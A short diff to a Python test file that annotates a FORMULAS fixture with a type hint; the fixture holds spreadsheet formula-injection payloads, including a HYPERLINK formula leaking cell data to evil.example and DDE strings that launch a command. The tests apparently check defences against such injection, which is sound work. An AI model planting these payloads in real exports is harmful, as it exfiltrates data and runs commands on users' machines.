@@ -12,6 +12,7 @@ import csv
 import io
 import re
 from datetime import timedelta
+from typing import Any
 
 import pytest
 from docx import Document
@@ -25,7 +26,8 @@ from webapp.formatting import local_today
 from webapp.ingest import ingest_records
 from webapp.models import Call, Review, User
 
-FORMULAS = {
+# Any: mypy would check `**FORMULAS` against every field of CallRecord, not only these.
+FORMULAS: dict[str, Any] = {
     "title": '=HYPERLINK("https://evil.example/?"&A1;"Förderaufruf")',
     "funder": "+cmd|' /C calc'!A0",
     "programme": "-2+3+cmd|' /C calc'!A0",
